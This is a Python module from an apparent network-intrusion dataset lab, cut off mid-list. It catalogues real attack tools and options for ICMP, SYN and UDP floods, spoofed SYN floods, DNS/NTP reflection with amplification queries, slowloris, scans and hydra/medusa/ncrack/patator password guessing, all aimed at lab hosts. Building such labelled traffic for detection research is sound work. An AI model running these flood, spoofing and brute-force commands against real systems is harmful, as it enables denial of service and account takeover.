"""The attack catalogue: which real tool, with which options, makes each fine class of lab traffic.

This module owns `CATALOGUE` (a list of `Variant`) and the small pieces an attack command needs that the lab does
not ship: per-episode word lists cut to the episode's size, DNS query files and a DNS query payload, and a
slowloris, a spoofing SYN flooder and a spoofing reflection sender of its own
(`python -m packetclip_training.lab.attacks slowloris|synflood|reflect ...`). It does not build namespaces, start
daemons, capture or label (see `topology`, `services`, `capture`, `runner`): it only turns a `LabContext` and a
scale into an argv that runs inside the attacker namespace.

Every command is bounded twice: in packets (hping3 `-c`, nmap port lists and `--max-retries`, hydra word-list
sizes, dnsperf `-n`, slowhttptest `-l` ...) and in seconds (each argv runs under `timeout`, and the runner kills
the process group at `Variant.deadline(scale)`). Every target comes from the `LabContext`. Spoofing stays inside
the lab: floods "from many addresses" draw their sources from a block of `topology.SPOOF_NET` (no lab host uses
it; the router drops whatever is sent back to it), reflections spoof a lab server's address towards the lab's
reflector, at its own address or at a block of `topology.REFLECTOR_NET`, whose every address it answers from;
t50 is always given `--saddr` (it would otherwise spoof random public sources, and silently ignores a
CIDR there), hping3 never `--rand-source`. Such variants name the source the sensor sees (`label_source`), which
the runner writes to labels.tsv instead of the attacker's address.

How many connections a variant makes matters to a per-connection dataset: Zeek (and the featurizer) key TCP and
UDP connections by 5-tuple and ICMP by addresses plus type/code. Each variant's `connections` field says whether
it makes "many" short connections (a new source or destination port per packet or attempt) or "few" long ones
(one socket or one ICMP flow carrying the whole episode).
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import logging
import math
import random
import socket
import string
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

from packetclip_training.lab.topology import LAB_NETS, REFLECTOR_NET, SPOOF_NET, is_lab_address

if TYPE_CHECKING:
    from packetclip_training.lab.context import LabContext

log = logging.getLogger(__name__)

# The runner kills an episode at `deadline(scale)`; tools with a start-up cost (nmap OS detection, hydra's
# first connections) need a few seconds even at the tiny scales of the CI profile.
MIN_DEADLINE_S = 10.0
# Seconds kept between the tool's own `timeout` and the runner's kill, so the tool exits (and flushes) first.
DEADLINE_MARGIN_S = 2.0
# What the lab's login form answers to a wrong password (webapp.py). Tools are told this text rather than a
# status code: hydra's http-post-form gives up on any 401 ("target is using HTTP auth"), whatever F= says.
FORM_FAILURE_TEXT = "Login failed"

Builder = Callable[["LabContext", float, float], list[str]]


@dataclass(frozen=True)
class Variant:
    """One way of producing a fine class: a tool, its options, rate, target and timing."""

    fine: str  # fine class (packetclip.classes.FINE_CLASSES)
    name: str  # unique id "<fine>/<tool>-<what differs>"; appears in labels.tsv
    tool: str  # executable whose version run.json records
    heldout: bool  # True: only ever in the test split, to measure generalisation to unseen tools/options
    max_seconds: float  # wall-clock bound of one episode at scale 1.0; scales linearly (see deadline)
    build: Builder = field(repr=False, compare=False)  # (lab, scale, seconds the tool may run) -> argv
    connections: str = "many"  # "many" short connections or "few" long ones (Zeek 5-tuple keying)
    summary: str = ""  # one line: what makes this variant different from its siblings
    # Signal `timeout` stops the tool with: KILL for tools that write state outside the workdir when asked to
    # stop politely (ncrack saves a resume file under root's home on SIGTERM).
    stop_signal: str = "TERM"
    # The address or CIDR the sensor sees this variant's traffic come from, when it is not the attacker's own:
    # a spoof block, a reflector. None: the attacker's address (labels.tsv attacker_ip).
    label_source: Callable[[LabContext], str] | None = field(default=None, repr=False, compare=False)

    def deadline(self, scale: float) -> float:
        """Seconds after which the runner kills the episode at this scale."""
        return max(MIN_DEADLINE_S, self.max_seconds * scale)

    def command(self, lab: LabContext, scale: float) -> list[str]:
        """The argv to run inside the attacker namespace (cwd = lab.workdir), bounded by `deadline(scale)`."""
        if not 0 < scale <= 10:
            raise ValueError(f"scale must be in (0, 10], got {scale}")
        tool_seconds = self.deadline(scale) - DEADLINE_MARGIN_S
        argv = self.build(lab, scale, tool_seconds)
        # `timeout` makes every tool stop on time even where its own bound is soft (masscan can hang after its
        # scan; hydra waits on slow servers); -k follows a SIGTERM that is ignored with a SIGKILL.
        return ["timeout", "-s", self.stop_signal, "-k", "1", f"{tool_seconds:.0f}", *argv]


def scaled(base: int, scale: float, minimum: int = 1) -> int:
    """`base` items at scale 1.0, proportionally fewer or more at other scales, never below `minimum`."""
    return max(minimum, round(base * scale))


# ---------------------------------------------------------------------------------------------------------------
# Files a command needs, written into lab.workdir when the command is built
# ---------------------------------------------------------------------------------------------------------------


def _read_lines(path: Path) -> list[str]:
    if not path.is_file():
        return []
    return [line.strip() for line in path.read_text(errors="replace").splitlines() if line.strip()]


def dictionary_files(
    lab: LabContext, service: str, n_users: int, n_passwords: int, tag: str
) -> tuple[Path, Path]:
    """Username and password files of exactly `n_users` x `n_passwords` for one episode.

    Decoys come from the lab's word lists (or numbered names when those are short); the right user sits in
    the middle of its list and the right password late in its list, so an attack that stops at the first
    success (`-f`) still tries most combinations, as a real guessing run does.
    """
    user, password = lab.credentials[service]
    decoy_users = [u for u in _read_lines(lab.usernames_file) if u != user]
    decoy_passwords = [p for p in _read_lines(lab.passwords_file) if p != password]
    decoy_users += [f"user{i:04d}" for i in range(max(0, n_users - len(decoy_users)))]
    decoy_passwords += [f"Passw0rd{i:04d}" for i in range(max(0, n_passwords - len(decoy_passwords)))]
    users = decoy_users[: n_users - 1]
    users.insert(len(users) // 2, user)
    passwords = decoy_passwords[: n_passwords - 1]
    passwords.insert(max(0, math.floor(len(passwords) * 0.85)), password)
    users_path = lab.workdir / f"{tag}-users.txt"
    passwords_path = lab.workdir / f"{tag}-passwords.txt"
    users_path.write_text("\n".join(users) + "\n")
    passwords_path.write_text("\n".join(passwords) + "\n")
    return users_path, passwords_path


def _random_label(rng: random.Random, length: int) -> str:
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(length))


def dns_query_file(lab: LabContext, kind: str, n: int, tag: str) -> Path:
    """A dnsperf/dig query file of `n` lines ("name type").

    kind "existing": names the lab zone serves (its server names, the apex, and the lab's own query file);
    kind "nonexistent": random labels under the zone, the "water torture" pattern that defeats caching.
    """
    rng = random.Random(f"{tag}-{n}")
    if kind == "existing":
        names = [f"{server}.{lab.dns_zone} A" for server in sorted(lab.servers)]
        names += [f"{lab.dns_zone} SOA", f"{lab.dns_zone} NS", f"{lab.dns_zone} MX"]
        names += [line for line in _read_lines(lab.dns_queries_file) if not line.startswith("#")]
        lines = [names[i % len(names)] for i in range(n)]
    elif kind == "nonexistent":
        qtypes = ("A", "A", "A", "AAAA", "TXT")
        lines = [
            f"{_random_label(rng, rng.randint(8, 20))}.{lab.dns_zone} {rng.choice(qtypes)}" for _ in range(n)
        ]
    else:
        raise ValueError(f"unknown DNS query kind {kind!r}")
    path = lab.workdir / f"{tag}-queries.txt"
    path.write_text("\n".join(lines) + "\n")
    return path


def dns_query_payload(lab: LabContext, tag: str) -> tuple[Path, int]:
    """One DNS query for a zone name as raw bytes (for hping3 `-E`); returns the file and its length."""
    import dns.message  # dnspython, a [train] dependency

    query = dns.message.make_query(f"www.{lab.dns_zone}", "A", use_edns=0)
    wire = query.to_wire()
    path = lab.workdir / f"{tag}-dns-query.bin"
    path.write_bytes(wire)
    return path, len(wire)


def sweep_block(sweep_cidr: str, scale: float) -> str:
    """The first sub-block of the sweep CIDR with about 256*scale addresses (at least 16, at most all of it).

    The first block holds the lab's live servers, so even a small sweep finds hosts among the unused ones.
    """
    network = ipaddress.IPv4Network(sweep_cidr, strict=False)
    wanted = min(network.num_addresses, max(16, round(256 * scale)))
    prefix = max(network.prefixlen, 32 - math.ceil(math.log2(wanted)))
    return str(next(network.subnets(new_prefix=prefix)))


def _safe_tag(name: str) -> str:
    return name.replace("/", "_")


# ---------------------------------------------------------------------------------------------------------------
# Command builders, one small function per family of variants
# ---------------------------------------------------------------------------------------------------------------


def hping3(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
    """hping3 with fixed options, `count` packets at scale 1.0 (`-c`), quiet, never spoofed."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        return ["hping3", *options, "-c", str(scaled(count, scale, 20)), "-q", target(lab)]

    return build


def t50(protocol: str, *options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
    """t50 sending `count` packets of `protocol`; `--saddr` pins the attacker address (t50 randomises it)."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        threshold = str(scaled(count, scale, 20))
        return [
            "t50",
            target(lab),
            "--protocol",
            protocol,
            *options,
            "--threshold",
            threshold,
            "--saddr",
            lab.attacker_ip,
        ]

    return build


def nping(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
    """nping (from the nmap package) sending `count` probes per target at the given `--rate`."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        return ["nping", *options, "-c", str(scaled(count, scale, 20)), "-q", target(lab)]

    return build


def nping_sweep(*options: str) -> Builder:
    """nping probing every address of the (scaled) sweep block once."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        return ["nping", *options, "-c", "1", "-q", sweep_block(lab.sweep_cidr, scale)]

    return build


def ping_flood(*options: str, count: int, target: Callable[[LabContext], str]) -> Builder:
    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        return [
            "ping",
            "-n",
            "-q",
            *options,
            "-c",
            str(scaled(count, scale, 20)),
            "-w",
            f"{seconds:.0f}",
            target(lab),
        ]

    return build


def dnsperf(kind: str, *options: str, queries: int) -> Builder:
    """dnsperf through a query file of `queries` lines, once (`-n 1`), for at most the episode's seconds."""

    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        tag = f"dnsperf-{kind}-x{scale:g}"
        path = dns_query_file(lab, kind, scaled(queries, scale, 50), tag)
        return [
            "dnsperf",
            "-s",
            lab.servers["dns"],
            "-d",
            str(path),
            "-n",
            "1",
            "-l",
            f"{seconds - 1:.0f}",
            "-t",
            "2",
            *options,
        ]

    return build


def dig_batch(kind: str, queries: int) -> Builder:
    """dig in batch mode: one query per line of a file (`kind` names, as for dnsperf), each from a fresh socket
    (a new UDP connection)."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        path = dns_query_file(lab, kind, scaled(queries, scale, 30), f"dig-batch-{kind}-x{scale:g}")
        server = lab.servers["dns"]
        return ["dig", f"@{server}", "-f", str(path), "+tries=1", "+time=1", "+noall", "+answer"]

    return build


def hping3_dns(count: int) -> Builder:
    """hping3 replaying one DNS query payload to port 53 from an incrementing source port (many connections)."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        payload, length = dns_query_payload(lab, "hping3")
        return [
            "hping3",
            "--udp",
            "-p",
            "53",
            "-s",
            "20000",
            "-E",
            str(payload),
            "-d",
            str(length),
            "-i",
            "u500",
            "-c",
            str(scaled(count, scale, 20)),
            "-q",
            lab.servers["dns"],
        ]

    return build


def _sub_block(network: ipaddress.IPv4Network, prefix: int, index: int) -> str:
    blocks = network.subnets(new_prefix=prefix)
    for _ in range(index):
        next(blocks)
    return str(next(blocks))


def spoof_block(prefix: int, index: int) -> str:
    """Sub-block number `index` (of size /`prefix`) of the spoof block: the sources of one spoofing variant, kept
    apart from the other variants' so that labels.tsv names exactly the addresses an episode used."""
    return _sub_block(SPOOF_NET, prefix, index)


def reflector_block(prefix: int, index: int) -> str:
    """Sub-block number `index` (of size /`prefix`) of the reflector block: the reflectors of one variant, its own
    for the same reason as `spoof_block`."""
    return _sub_block(REFLECTOR_NET, prefix, index)


def python_synflood(
    server: str, dport: int | None, prefix: int, index: int, count: int, rate: int, ttl: str = "64"
) -> Builder:
    """The spoofing SYN flooder of this module: every SYN from a random source of one spoof block, random source
    port and sequence number, Linux-like options; `dport` None sprays random destination ports."""

    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        return [
            "python3",
            "-m",
            "packetclip_training.lab.attacks",
            "synflood",
            lab.servers[server],
            "--dport",
            "random" if dport is None else str(dport),
            "--source-net",
            spoof_block(prefix, index),
            "--count",
            str(scaled(count, scale, 50)),
            "--rate",
            str(rate),
            "--ttl",
            ttl,
            "--seconds",
            f"{max(1.0, seconds - 1):.0f}",
        ]

    return build


def dns_reflection_query(lab: LabContext, qtype: str) -> bytes:
    """A query for the reflector zone's apex with EDNS0 and a 4,096-byte buffer: without EDNS0 an answer stops at
    512 bytes, so every amplification query asks for the large buffer."""
    import dns.message  # dnspython, a [train] dependency

    return dns.message.make_query(lab.reflector_zone, qtype, use_edns=0, payload=4096).to_wire()


def ntp_client_request() -> bytes:
    """An NTPv4 client request (mode 3): what an NTP server answers with a 48-byte reply."""
    return bytes([0x23]) + bytes(47)


def hping3_reflect(
    service: str, port: int, payload: Callable[[LabContext], bytes], victim: str, count: int, interval: str
) -> Builder:
    """hping3 sending one request payload to the reflector's `port` in the victim's name (`-a`), from an
    incrementing victim port: the reflector's answers reach the victim as many short connections."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        wire = payload(lab)
        path = lab.workdir / f"hping3-reflect-{service}.bin"
        path.write_bytes(wire)
        return [
            "hping3",
            "--udp",
            "-a",
            lab.servers[victim],
            "-p",
            str(port),
            "-s",
            "1024",
            "-E",
            str(path),
            "-d",
            str(len(wire)),
            "-i",
            interval,
            "-c",
            str(scaled(count, scale, 20)),
            "-q",
            lab.reflectors[service],
        ]

    return build


def nping_reflect(
    reflectors: Callable[[LabContext], str],
    port: int,
    payload: Callable[[LabContext], bytes],
    victim: str,
    victim_port: int,
    count: int,
    rate: int,
    minimum: int = 20,
) -> Builder:
    """nping sending one request payload in the victim's name (`-S`) from one fixed victim port (`-g`) to the
    reflector, or to every address of a reflector block in turn: the shape of an attack aimed at one port, one
    long connection per reflector address. `count` (at least `minimum`) is nping's rounds: probes per address."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        return [
            "nping",
            "--udp",
            "-S",
            lab.servers[victim],
            "-g",
            str(victim_port),
            "-p",
            str(port),
            "--data",
            payload(lab).hex(),
            "--rate",
            str(rate),
            "-c",
            str(scaled(count, scale, minimum)),
            "-e",
            lab.attacker_iface,
            "-q",
            reflectors(lab),
        ]

    return build


def python_reflect(
    victim: str,
    port: int,
    payload: Callable[[LabContext], bytes],
    tag: str,
    prefix: int,
    index: int,
    count: int,
    rate: int,
) -> Builder:
    """The reflection sender of this module: one request payload at a time to the next address of one reflector
    block (each address once before any twice), in the victim's name from a random ephemeral victim port: the
    answers reach the victim from as many sources as the block has addresses, each a new connection."""

    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        path = lab.workdir / f"reflect-{tag}.bin"
        path.write_bytes(payload(lab))
        return [
            "python3",
            "-m",
            "packetclip_training.lab.attacks",
            "reflect",
            lab.servers[victim],
            "--payload",
            str(path),
            "--dport",
            str(port),
            "--reflector-net",
            reflector_block(prefix, index),
            "--count",
            str(scaled(count, scale, 50)),
            "--rate",
            str(rate),
            "--seconds",
            f"{max(1.0, seconds - 1):.0f}",
        ]

    return build


def reflector(service: str) -> Callable[[LabContext], str]:
    return lambda lab: lab.reflectors[service]


def slowhttptest(
    mode: str, url: Callable[[LabContext], str], connections: int, interval: int, rate: int, test_seconds: int
) -> Builder:
    """slowhttptest in slow-headers (-H) or slow-body (-B) mode; `-l` bounds the test length."""

    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        length = max(3, min(round(test_seconds * scale), int(seconds) - 2))
        return [
            "slowhttptest",
            mode,
            "-c",
            str(scaled(connections, scale, 10)),
            "-i",
            str(interval),
            "-r",
            str(rate),
            "-l",
            str(length),
            "-x",
            "24",
            "-p",
            "3",
            "-u",
            url(lab),
        ]

    return build


def python_slowloris(server: str, port: int, connections: int, interval: float, test_seconds: int) -> Builder:
    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        length = max(3.0, min(test_seconds * scale, seconds - 2))
        return [
            "python3",
            "-m",
            "packetclip_training.lab.attacks",
            "slowloris",
            lab.servers[server],
            "--port",
            str(port),
            "--connections",
            str(scaled(connections, scale, 10)),
            "--interval",
            str(interval),
            "--seconds",
            f"{length:.0f}",
        ]

    return build


def nmap(
    *options: str, ports: Callable[[float], list[str]], targets: Callable[[LabContext, float], list[str]]
) -> Builder:
    """nmap with few retries, a per-host timeout inside the episode's bound and no DNS resolution."""

    def build(lab: LabContext, scale: float, seconds: float) -> list[str]:
        host_timeout = max(5, int(seconds) - 1)
        return [
            "nmap",
            "-n",
            "--max-retries",
            "1",
            "--host-timeout",
            f"{host_timeout}s",
            *options,
            *ports(scale),
            *targets(lab, scale),
        ]

    return build


def port_range(top: int, start: int = 1, minimum: int = 20) -> Callable[[float], list[str]]:
    return lambda scale: ["-p", f"{start}-{start + scaled(top, scale, minimum) - 1}"]


def port_list(spec: str) -> Callable[[float], list[str]]:
    return lambda _scale: ["-p", spec]


def top_ports(top: int, minimum: int = 20) -> Callable[[float], list[str]]:
    return lambda scale: ["--top-ports", str(scaled(top, scale, minimum))]


def no_ports(_scale: float) -> list[str]:
    return []


def servers(*names: str) -> Callable[[LabContext, float], list[str]]:
    return lambda lab, _scale: [lab.servers[name] for name in names]


def all_servers(lab: LabContext, _scale: float) -> list[str]:
    """Every server address of the subnet, once each."""
    return sorted(set(lab.servers.values()))


def sweep(lab: LabContext, scale: float) -> list[str]:
    return [sweep_block(lab.sweep_cidr, scale)]


def mausezahn_syn(
    server: str, count: int, dport: int | None = None, sport: int = 40000, first_sport: int = 1025
) -> Builder:
    """mausezahn (netsniff-ng) sending `count` SYNs back to back, as fast as the link takes them: to `dport` from
    consecutive source ports (each its own connection), or with `dport` None from one source port to consecutive
    destination ports. Its ranges are its packet bound (one packet per value, `-c 1`). It builds its own frames,
    so it is given the adapter and the router's MAC, as masscan is. hping3 and the lab's own flooder send a
    few thousand SYNs a second, slower than nmap's -T4 bursts; real floods (and t50) run at line rate."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n = scaled(count, scale, 50)
        if dport is None:
            ports = f"sp={sport},dp=1-{n}"
        else:
            ports = f"sp={first_sport}-{first_sport + n - 1},dp={dport}"
        return [
            "mausezahn",
            lab.attacker_iface,
            "-q",
            "-c",
            "1",
            "-d",
            "0",
            "-b",
            lab.gateway_mac,
            "-A",
            lab.attacker_ip,
            "-B",
            lab.servers[server],
            "-t",
            "tcp",
            f"{ports},flags=syn",
        ]

    return build


def masscan(ports: int, rate: int, wait: int) -> Builder:
    """masscan builds its own frames: lab hosts have no default route, so it is given the adapter and the
    router's MAC; it can hang after the scan (robertdavidgraham/masscan#144), which `timeout` cuts."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        top = scaled(ports, scale, 50)
        return [
            "masscan",
            *servers("web", "web2", "ssh", "ftp")(lab, scale),
            "-p",
            f"1-{top}",
            "--rate",
            str(rate),
            "--wait",
            str(wait),
            "--adapter",
            lab.attacker_iface,
            "--adapter-ip",
            lab.attacker_ip,
            "--router-mac",
            lab.gateway_mac,
        ]

    return build


def fping(block: Callable[[LabContext, float], list[str]]) -> Builder:
    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        return ["fping", "-a", "-q", "-r", "0", "-i", "5", "-t", "200", "-g", *block(lab, scale)]

    return build


def hydra(
    service: str,
    threads: int,
    users: int,
    passwords: int,
    module: Callable[[LabContext], list[str]],
    pacing: tuple[str, ...] = (),
) -> Builder:
    """hydra with `threads` parallel tasks over users x passwords (scaled), stopping at the first success;
    `pacing` adds hydra's waits (-W between connects per task, -c between attempts over all tasks)."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n_users = scaled(users, math.sqrt(scale), 2)
        n_passwords = scaled(passwords, math.sqrt(scale), 4)
        users_path, passwords_path = dictionary_files(
            lab, service, n_users, n_passwords, f"hydra-{service}-t{threads}"
        )
        return [
            "hydra",
            "-I",
            "-f",
            "-t",
            str(threads),
            "-w",
            "5",
            *pacing,
            "-L",
            str(users_path),
            "-P",
            str(passwords_path),
            *module(lab),
        ]

    return build


def medusa(service: str, module: str, threads: int, users: int, passwords: int, host: str = "") -> Builder:
    """medusa with `threads` parallel logins against `host` (a `LabContext.servers` key; default: the server
    named like the service), stopping at the first success."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n_users = scaled(users, math.sqrt(scale), 2)
        n_passwords = scaled(passwords, math.sqrt(scale), 4)
        users_path, passwords_path = dictionary_files(
            lab, service, n_users, n_passwords, f"medusa-{module}-x{scale:g}"
        )
        return [
            "medusa",
            "-h",
            lab.servers[host or service],
            "-U",
            str(users_path),
            "-P",
            str(passwords_path),
            "-M",
            module,
            "-t",
            str(threads),
            "-f",
            "-r",
            "0",
            "-R",
            "0",
        ]

    return build


def ncrack(service: str, scheme: str, connection_limit: int, users: int, passwords: int) -> Builder:
    """ncrack with its own timing engine: it probes the service with one connection for several seconds before
    it opens `cl`..`CL` parallel ones; `at=2` (two attempts per connection) makes its connections short.
    It is stopped with SIGKILL (see the variant): SIGTERM, or its own `to=` limit, makes it save a resume file
    under root's home."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n_users = scaled(users, math.sqrt(scale), 2)
        n_passwords = scaled(passwords, math.sqrt(scale), 4)
        users_path, passwords_path = dictionary_files(
            lab, service, n_users, n_passwords, f"ncrack-{scheme}-x{scale:g}"
        )
        service_options = f"cl=4,CL={connection_limit},at=2"
        return [
            "ncrack",
            "-f",
            "-T4",
            "-g",
            service_options,
            "-U",
            str(users_path),
            "-P",
            str(passwords_path),
            f"{scheme}://{lab.servers[service]}",
        ]

    return build


def patator_form(threads: int, users: int, passwords: int) -> Builder:
    """patator http_fuzz posting the login form; answers carrying the failure text stay quiet."""

    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n_users = scaled(users, math.sqrt(scale), 2)
        n_passwords = scaled(passwords, math.sqrt(scale), 4)
        users_path, passwords_path = dictionary_files(
            lab, "http_form", n_users, n_passwords, f"patator-form-x{scale:g}"
        )
        url = f"http://{lab.servers['web']}:{lab.login_port}/login"
        return [
            "patator",
            "http_fuzz",
            f"url={url}",
            # patator 0.9 hands pycurl an empty CURLOPT_RESOLVE entry (an error) unless resolve= is given.
            f"resolve={lab.servers['web']}:{lab.servers['web']}",
            "method=POST",
            "body=username=FILE0&password=FILE1",
            f"0={users_path}",
            f"1={passwords_path}",
            "-x",
            f"ignore:fgrep={FORM_FAILURE_TEXT}",
            "-t",
            str(threads),
            "--max-retries=0",
            "--timeout=5",
        ]

    return build


def patator_ftp(threads: int, users: int, passwords: int) -> Builder:
    def build(lab: LabContext, scale: float, _seconds: float) -> list[str]:
        n_users = scaled(users, math.sqrt(scale), 2)
        n_passwords = scaled(passwords, math.sqrt(scale), 4)
        users_path, passwords_path = dictionary_files(
            lab, "ftp", n_users, n_passwords, f"patator-ftp-x{scale:g}"
        )
        return [
            "patator",
            "ftp_login",
            f"host={lab.servers['ftp']}",
            "user=FILE0",
            "password=FILE1",
            f"0={users_path}",
            f"1={passwords_path}",
            "persistent=0",
            "-x",
            "ignore:code=530",
            "-x",
            "quit:code=230",
            "-t",
            str(threads),
            "--max-retries=0",
            "--timeout=5",
        ]

    return build


def _server(name: str) -> Callable[[LabContext], str]:
    return lambda lab: lab.servers[name]


def _url(scheme: str, server: str, path: str = "") -> Callable[[LabContext], list[str]]:
    """hydra's target as a URL: `scheme://<address of server>[/path]` (the path carries a module option)."""
    return lambda lab: [f"{scheme}://{lab.servers[server]}{path}"]


def _http_form_module(lab: LabContext) -> list[str]:
    form = f"/login:username=^USER^&password=^PASS^:F={FORM_FAILURE_TEXT}"
    return ["-s", str(lab.login_port), lab.servers["web"], "http-post-form", form]


# ---------------------------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------------------------


def _v(
    fine: str,
    name: str,
    tool: str,
    build: Builder,
    max_seconds: float,
    connections: str,
    summary: str,
    heldout: bool = False,
    stop_signal: str = "TERM",
    label_source: Callable[[LabContext], str] | None = None,
) -> Variant:
    return Variant(
        fine=fine,
        name=f"{fine}/{name}",
        tool=tool,
        heldout=heldout,
        max_seconds=max_seconds,
        build=build,
        connections=connections,
        summary=summary,
        stop_signal=stop_signal,
        label_source=label_source,
    )


_FLOODS: list[Variant] = [
    # ICMP: Zeek keys ICMP by addresses and type/code, so one flood at one victim is one long connection.
    _v(
        "icmp_flood",
        "hping3-echo-1kpps",
        "hping3",
        hping3("--icmp", "-i", "u1000", count=20000, target=_server("web")),
        30,
        "few",
        "echo requests at 1,000/s, 28-byte packets",
    ),
    _v(
        "icmp_flood",
        "hping3-echo-faster-1200b",
        "hping3",
        hping3("--icmp", "--faster", "-d", "1200", count=20000, target=_server("web2")),
        30,
        "few",
        "echo requests as fast as hping3 --faster goes, 1,200-byte payload",
    ),
    _v(
        "icmp_flood",
        "ping-flood",
        "ping",
        ping_flood("-f", "-s", "512", count=20000, target=_server("ssh")),
        30,
        "few",
        "iputils ping -f: one request per reply or per 10 ms, 512-byte payload",
    ),
    _v(
        "icmp_flood",
        "ping-2ms-64b",
        "ping",
        ping_flood("-i", "0.002", "-s", "64", count=10000, target=_server("dns")),
        40,
        "few",
        "iputils ping every 2 ms, small payload",
    ),
    _v(
        "icmp_flood",
        "t50-icmp",
        "t50",
        t50("ICMP", count=20000, target=_server("web")),
        30,
        "few",
        "t50 line-rate ICMP with random ids, sequence numbers and TTL 255",
        heldout=True,
    ),
    # SYN: hping3 -S and t50 change the source port per packet, so every SYN is its own connection (S0/REJ).
    _v(
        "syn_flood",
        "hping3-80-2kpps",
        "hping3",
        hping3("-S", "-p", "80", "-i", "u500", count=20000, target=_server("web")),
        30,
        "many",
        "SYNs to nginx :80 at 2,000/s",
    ),
    _v(
        "syn_flood",
        "hping3-443-faster",
        "hping3",
        hping3("-S", "-p", "443", "-w", "64", "--faster", count=20000, target=_server("web")),
        30,
        "many",
        "SYNs to :443 as fast as possible, tiny window",
    ),
    _v(
        "syn_flood",
        "hping3-22-1kpps",
        "hping3",
        hping3("-S", "-p", "22", "-i", "u1000", count=15000, target=_server("ssh")),
        30,
        "many",
        "SYNs to sshd at 1,000/s",
    ),
    _v(
        "syn_flood",
        "hping3-apache-80-ttl",
        "hping3",
        hping3("-S", "-p", "80", "-i", "u300", "-t", "128", count=20000, target=_server("web2")),
        30,
        "many",
        "SYNs to apache2 at ~3,000/s with a Windows-like TTL",
    ),
    _v(
        "syn_flood",
        "hping3-80-data120",
        "hping3",
        hping3("-S", "-p", "80", "-d", "120", "-w", "64", "-i", "u400", count=20000, target=_server("web2")),
        30,
        "many",
        "SYNs carrying 120 bytes of data to apache2 at ~2,500/s (the common hping3 flood recipe `-S -d 120 -w 64`)",
    ),
    _v(
        "syn_flood",
        "t50-syn-8080",
        "t50",
        t50("TCP", "--syn", "--dport", "8080", count=20000, target=_server("web")),
        30,
        "many",
        "t50 SYNs with random sequence numbers and source ports, TTL 255, to the login port",
        heldout=True,
    ),
    # Spoofed sources (python3: this module's flooder; each spoof block is the variant's own, named in labels.tsv):
    # the victim's SYN-ACKs go to the router and die there (topology.SPOOF_NET), as backscatter does.
    _v(
        "syn_flood",
        "python-spoofed-19-80",
        "python3",
        python_synflood("web", 80, 19, 0, count=20000, rate=2000),
        30,
        "many",
        "SYNs to nginx :80 from 8,190 spoofed sources at 2,000/s, each SYN a new source (Linux-like options)",
        label_source=lambda _lab: spoof_block(19, 0),
    ),
    _v(
        "syn_flood",
        "python-spoofed-24-botnet-443",
        "python3",
        python_synflood("web", 443, 24, 64, count=15000, rate=1500, ttl="40-128"),
        30,
        "many",
        "SYNs to :443 from the 254 addresses of one spoofed /24, dozens each, a TTL per source (a small botnet)",
        label_source=lambda _lab: spoof_block(24, 64),
    ),
    _v(
        "syn_flood",
        "python-spoofed-random-dports",
        "python3",
        python_synflood("web2", None, 19, 1, count=20000, rate=2000),
        30,
        "many",
        "SYNs sprayed over random destination ports of apache2's host from 8,190 spoofed sources",
        label_source=lambda _lab: spoof_block(19, 1),
    ),
    _v(
        "syn_flood",
        "hping3-dport-sweep",
        "hping3",
        hping3("-S", "-p", "++1", "-i", "u500", count=20000, target=_server("web2")),
        30,
        "many",
        "SYNs from one source to an incrementing destination port at 2,000/s (mostly RSTs back)",
    ),
    _v(
        "syn_flood",
        "mausezahn-80-line-rate",
        "mausezahn",
        mausezahn_syn("web", 20000, dport=80),
        30,
        "many",
        "SYNs to nginx :80 back to back at line rate (hundreds of thousands a second), one source port each",
    ),
    _v(
        "syn_flood",
        "mausezahn-dport-sweep-line-rate",
        "mausezahn",
        mausezahn_syn("web2", 20000),
        30,
        "many",
        "SYNs from one source port to consecutive destination ports at line rate: faster than any scan",
    ),
    _v(
        "syn_flood",
        "t50-syn-random-dports",
        "t50",
        t50("TCP", "--syn", count=20000, target=_server("ssh")),
        30,
        "many",
        "t50 SYNs from one source to a random destination port each (t50's default), TTL 255",
        heldout=True,
    ),
    # UDP: hping3 --udp increments the source port per packet (many connections); nping keeps one socket (few).
    _v(
        "udp_flood",
        "hping3-ntp-1kpps",
        "hping3",
        hping3("--udp", "-p", "123", "-d", "48", "-i", "u1000", count=20000, target=_server("ntp")),
        30,
        "many",
        "48-byte datagrams to NTP at 1,000/s",
    ),
    _v(
        "udp_flood",
        "hping3-portsweep-512b",
        "hping3",
        hping3("--udp", "-p", "++1024", "-d", "512", "-i", "u200", count=20000, target=_server("mqtt")),
        30,
        "many",
        "512-byte datagrams to an incrementing closed port (ICMP unreachables back)",
    ),
    _v(
        "udp_flood",
        "t50-udp-random-ports",
        "t50",
        t50("UDP", count=20000, target=_server("web2")),
        30,
        "many",
        "t50 datagrams to random ports from random source ports",
    ),
    _v(
        "udp_flood",
        "nping-udp-1900",
        "nping",
        nping(
            "--udp",
            "-p",
            "1900",
            "--data-length",
            "256",
            "--rate",
            "2000",
            count=20000,
